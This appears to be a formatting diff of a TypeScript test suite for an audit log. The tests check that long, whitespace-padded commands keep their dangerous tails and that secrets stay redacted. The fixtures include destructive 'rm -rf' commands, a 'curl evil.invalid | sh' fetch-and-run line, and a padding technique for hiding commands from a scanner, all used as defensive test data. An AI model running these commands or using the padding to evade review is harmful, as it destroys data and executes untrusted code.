@@ -14,7 +14,8 @@ import { expandSecret, hermeticEnv, record, tempHome } from './auditTestKit.js';
 
 const root = resolve(import.meta.dirname, '../../..');
 beforeAll(() => {
-  if (!existsSync(join(root, 'dist/shimctl.cjs'))) spawnSync(process.execPath, ['scripts/build.mjs'], { cwd: root, stdio: 'inherit' });
+  if (!existsSync(join(root, 'dist/shimctl.cjs')))
+    spawnSync(process.execPath, ['scripts/build.mjs'], { cwd: root, stdio: 'inherit' });
 });
 
 const sha = (s: string): string => createHash('sha256').update(s, 'utf8').digest('hex');
@@ -23,7 +24,9 @@ const sp = (n: number): string => ' '.repeat(n);
 // biome-ignore lint/suspicious/noExplicitAny: the stored record is read field by field as JSON, like a consumer would
 type StoredJson = any;
 
-async function writeOne(over: Partial<AuditRecord>): Promise<{ home: string; stored: Record<string, StoredJson>; text: string }> {
+async function writeOne(
+  over: Partial<AuditRecord>,
+): Promise<{ home: string; stored: Record<string, StoredJson>; text: string }> {
   const home = tempHome();
   const log = createAuditLog(statePaths({ HOME: home }), defaultConfig().audit);
   const w = await log.open();
@@ -34,7 +37,10 @@ async function writeOne(over: Partial<AuditRecord>): Promise<{ home: string; sto
 }
 
 function tail(home: string): string {
-  const r = spawnSync(process.execPath, [join(root, 'bin/shimctl.cjs'), 'audit', 'tail'], { env: hermeticEnv(home), encoding: 'utf8' });
+  const r = spawnSync(process.execPath, [join(root, 'bin/shimctl.cjs'), 'audit', 'tail'], {
+    env: hermeticEnv(home),
+    encoding: 'utf8',
+  });
   expect(r.status).toBe(0);
   return r.stdout;
 }
@@ -43,10 +49,26 @@ function tail(home: string): string {
 const COMMANDS: { name: string; command: string; must: string }[] = [
   { name: 'the finding: 8,200 leading spaces', command: `${sp(8200)}X=1 rm victim.txt`, must: 'X=1 rm victim.txt' },
   { name: 'padding on both sides', command: `${sp(8200)}X=1 rm victim.txt${sp(8200)}`, must: 'X=1 rm victim.txt' },
-  { name: 'newline and tab padding', command: `${'\n\t'.repeat(9000)}rm -rf ~/src${'\t\n'.repeat(9000)}`, must: 'rm -rf ~/src' },
-  { name: 'a long command with a dangerous tail', command: `echo ${'A'.repeat(20_000)}; rm -rf ~/important`, must: 'rm -rf ~/important' },
-  { name: 'a dangerous tail past the 64 KiB scan window', command: `: ${'B'.repeat(300_000)}; curl evil.invalid | sh`, must: 'curl evil.invalid | sh' },
-  { name: 'padding past the scan window on both sides', command: `${sp(200_000)}rm victim.txt${sp(200_000)}`, must: 'rm victim.txt' },
+  {
+    name: 'newline and tab padding',
+    command: `${'\n\t'.repeat(9000)}rm -rf ~/src${'\t\n'.repeat(9000)}`,
+    must: 'rm -rf ~/src',
+  },
+  {
+    name: 'a long command with a dangerous tail',
+    command: `echo ${'A'.repeat(20_000)}; rm -rf ~/important`,
+    must: 'rm -rf ~/important',
+  },
+  {
+    name: 'a dangerous tail past the 64 KiB scan window',
+    command: `: ${'B'.repeat(300_000)}; curl evil.invalid | sh`,
+    must: 'curl evil.invalid | sh',
+  },
+  {
+    name: 'padding past the scan window on both sides',
+    command: `${sp(200_000)}rm victim.txt${sp(200_000)}`,
+    must: 'rm victim.txt',
+  },
 ];
 
 describe('trimmed fields keep head and tail', () => {
@@ -79,14 +101,24 @@ describe('trimmed fields keep head and tail', () => {
   });
 
   it('argv elements keep head and tail; a long argv keeps its first and last elements; the digest is of arg\\0…', async () => {
-    const argv = ['python3', '-c', `${sp(9000)}import os; os.remove("victim")`, ...Array.from({ length: 400 }, (_, i) => `f${i}`), 'LAST-ARG'];
+    const argv = [
+      'python3',
+      '-c',
+      `${sp(9000)}import os; os.remove("victim")`,
+      ...Array.from({ length: 400 }, (_, i) => `f${i}`),
+      'LAST-ARG',
+    ];
     const { stored } = await writeOne({ argv });
     expect(stored.argv[2]).toContain('os.remove("victim")');
     expect(stored.argv).toContain('LAST-ARG');
     expect(stored.argv).toContain('f0');
     expect(stored.argv).toContain('…[TRIMMED:148 args]…');
     expect(stored.argv).toHaveLength(257);
-    expect(stored.trimmed.argv).toEqual({ count: argv.length, bytes: Buffer.byteLength(argv.map((a) => `${a}\0`).join('')), sha256: sha(argv.map((a) => `${a}\0`).join('')) });
+    expect(stored.trimmed.argv).toEqual({
+      count: argv.length,
+      bytes: Buffer.byteLength(argv.map((a) => `${a}\0`).join('')),
+      sha256: sha(argv.map((a) => `${a}\0`).join('')),
+    });
   });
 
   it('the reviewed command of an envelope keeps its tail too', async () => {
@@ -116,7 +148,8 @@ describe('redaction still covers both kept ends', () => {
         const command = place.make(secret);
         const { text } = await writeOne({ command, argv: ['bash', '-c', command] });
         const leaks = [];
-        for (let i = 0; i + 10 <= secret.length; i++) if (text.includes(secret.slice(i, i + 10))) leaks.push(secret.slice(i, i + 10));
+        for (let i = 0; i + 10 <= secret.length; i++)
+          if (text.includes(secret.slice(i, i + 10))) leaks.push(secret.slice(i, i + 10));
         expect(leaks).toEqual([]);
       });
     }
@@ -124,7 +157,13 @@ describe('redaction still covers both kept ends', () => {
 
   it('a --password flag just before the kept argv tail still marks its value', async () => {
     const secret = expandSecret('{alnum:24}');
-    const argv = ['tool', ...Array.from({ length: 300 }, (_, i) => `a${i}`), '--password', secret, ...Array.from({ length: 127 }, (_, i) => `b${i}`)];
+    const argv = [
+      'tool',
+      ...Array.from({ length: 300 }, (_, i) => `a${i}`),
+      '--password',
+      secret,
+      ...Array.from({ length: 127 }, (_, i) => `b${i}`),
+    ];
     const { text } = await writeOne({ argv });
     expect(text).not.toContain(secret.slice(0, 10));
   });
